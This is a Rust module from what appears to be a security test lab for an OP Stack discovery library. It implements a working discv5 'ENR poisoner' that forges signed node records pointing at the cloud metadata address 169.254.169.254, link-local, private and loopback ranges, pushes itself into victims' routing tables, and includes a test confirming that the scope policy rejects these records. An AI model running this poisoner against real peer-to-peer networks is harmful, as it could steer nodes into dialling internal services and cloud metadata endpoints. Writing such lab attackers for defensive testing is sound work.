//! An ENR poisoner: a real discv5 node that joins the lab's discovery network and answers every
//! `FINDNODE` with forged OP Stack ENRs (our chain, valid signatures) pointing at addresses the
//! victims must not dial: private and link-local ranges (`169.254.169.254` is the cloud
//! metadata service), or the victims' own loopback when the lab runs on private addresses.

use std::{
    net::{IpAddr, Ipv4Addr, UdpSocket},
    sync::Arc,
    time::Duration,
};

use discv5::{ConfigBuilder, Discv5, ListenConfig};
use opmesh_discovery::{
    scope_of, AddrScope, Enr, NodeId, NodeIdentity, OpStackEnr, OPSTACK_ENR_KEY,
};
use tokio::task::JoinHandle;

use crate::LabError;

/// Addresses forged ENRs point at for a cluster whose nodes listen on `cluster_ip`: ranges that
/// cluster does not use, so its nodes must refuse them all.
pub fn forbidden_targets(cluster_ip: IpAddr) -> Vec<IpAddr> {
    let mut targets = vec![
        IpAddr::V4(Ipv4Addr::new(169, 254, 169, 254)),
        IpAddr::V4(Ipv4Addr::new(169, 254, 0, 1)),
    ];
    match scope_of(cluster_ip) {
        AddrScope::Loopback => targets.extend([
            IpAddr::V4(Ipv4Addr::new(10, 0, 0, 1)),
            IpAddr::V4(Ipv4Addr::new(192, 168, 1, 1)),
            IpAddr::V4(Ipv4Addr::new(172, 16, 0, 1)),
        ]),
        AddrScope::Private => targets.extend([
            IpAddr::V4(Ipv4Addr::LOCALHOST),
            IpAddr::V4(Ipv4Addr::new(127, 0, 0, 53)),
        ]),
        _ => targets.extend([
            IpAddr::V4(Ipv4Addr::LOCALHOST),
            IpAddr::V4(Ipv4Addr::new(10, 0, 0, 1)),
            IpAddr::V4(Ipv4Addr::new(192, 168, 1, 1)),
        ]),
    }
    targets
}

/// A forged ENR of chain `chain_id` at `ip` (TCP and UDP 9222), signed by a fresh key.
fn forged_enr(chain_id: u64, ip: IpAddr) -> Result<Enr, LabError> {
    let key = NodeIdentity::generate().enr_key();
    let mut builder = Enr::builder();
    builder.ip(ip).tcp4(9222).udp4(9222);
    builder.add_value(OPSTACK_ENR_KEY, &OpStackEnr::new(chain_id));
    builder
        .build(&key)
        .map_err(|e| LabError::Attacker(format!("forged ENR: {e}")))
}

/// The running poisoner.
pub struct EnrPoisoner {
    /// Shared with the lookup task; discv5 stops when the last one is dropped.
    discv5: Arc<Discv5>,
    lookups: JoinHandle<()>,
    /// Forged ENRs in its routing table (served to anyone who asks).
    pub served: usize,
}

impl std::fmt::Debug for EnrPoisoner {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("EnrPoisoner")
            .field("served", &self.served)
            .finish_non_exhaustive()
    }
}

impl EnrPoisoner {
    /// Starts a discv5 node on `ip` (a loopback alias) that knows `bootnode_enr` and up to
    /// `count` forged ENRs of `chain_id` at `targets`, greets each of `victims` (ENR texts) so
    /// they put it in their routing tables and ask it in their next lookups, and keeps looking
    /// up random ids so the rest of the network learns about it too.
    pub async fn spawn(
        chain_id: u64,
        ip: IpAddr,
        bootnode_enr: &str,
        victims: &[String],
        targets: &[IpAddr],
        count: usize,
    ) -> Result<Self, LabError> {
        let err = |what: &str, e: String| LabError::Attacker(format!("ENR poisoner {what}: {e}"));
        let port = UdpSocket::bind((ip, 0))
            .and_then(|s| s.local_addr())
            .map_err(|e| err("UDP port", e.to_string()))?
            .port();
        let identity = NodeIdentity::generate();
        let mut builder = Enr::builder();
        builder.ip(ip).udp4(port).tcp4(port);
        builder.add_value(OPSTACK_ENR_KEY, &OpStackEnr::new(chain_id));
        let local = builder
            .build(&identity.enr_key())
            .map_err(|e| err("ENR", e.to_string()))?;
        let mut config = ConfigBuilder::new(ListenConfig::from_ip(ip, port));
        config.disable_enr_update().auto_nat_listen_duration(None);
        let mut discv5 = Discv5::new(local, identity.enr_key(), config.build())
            .map_err(|e| err("setup", e.to_string()))?;
        discv5
            .start()
            .await
            .map_err(|e| err("start", format!("{e:?}")))?;
        let bootnode = bootnode_enr
            .parse::<Enr>()
            .map_err(|e| err("bootnode ENR", e.to_string()))?;
        discv5
            .add_enr(bootnode)
            .map_err(|e| err("bootnode", e.to_string()))?;
        let mut served = 0;
        for i in 0..count {
            let Some(target) = targets.get(i % targets.len().max(1)) else {
                break;
            };
            // A full bucket refuses more; the table holds what it can.
            if discv5.add_enr(forged_enr(chain_id, *target)?).is_ok() {
                served += 1;
            }
        }
        let victims: Vec<Enr> = victims.iter().filter_map(|e| e.parse().ok()).collect();
        let discv5 = Arc::new(discv5);
        let finder = Arc::clone(&discv5);
        let lookups = tokio::spawn(async move {
            loop {
                // A session with each victim puts the poisoner in the victim's table.
                for victim in &victims {
                    let _ = finder
                        .find_node_designated_peer(victim.clone(), vec![256])
                        .await;
                }
                let _ = finder.find_node(NodeId::random()).await;
                tokio::time::sleep(Duration::from_secs(2)).await;
            }
        });
        Ok(Self {
            discv5,
            lookups,
            served,
        })
    }

    /// Stops the node (discv5 shuts down when the aborted lookup task lets go of it).
    pub fn shutdown(self) {
        self.lookups.abort();
        drop(self.discv5);
    }
}

#[cfg(test)]
mod tests {
    use opmesh_discovery::ScopePolicy;

    use super::*;

    #[test]
    fn forged_targets_are_outside_what_the_cluster_expects() {
        for cluster_ip in [
            IpAddr::V4(Ipv4Addr::new(127, 1, 0, 1)),
            IpAddr::V4(Ipv4Addr::new(10, 77, 0, 2)),
        ] {
            let mut policy = ScopePolicy::PUBLIC_ONLY;
            policy.expect(cluster_ip);
            let targets = forbidden_targets(cluster_ip);
            assert!(targets.len() >= 4);
            for target in targets {
                let enr = forged_enr(901, target).expect("forged");
                assert_eq!(opmesh_discovery::check_enr(&enr, 901), Ok(()));
                assert!(!policy.allows_enr(&enr), "{cluster_ip}: {target}");
            }
        }
    }
}
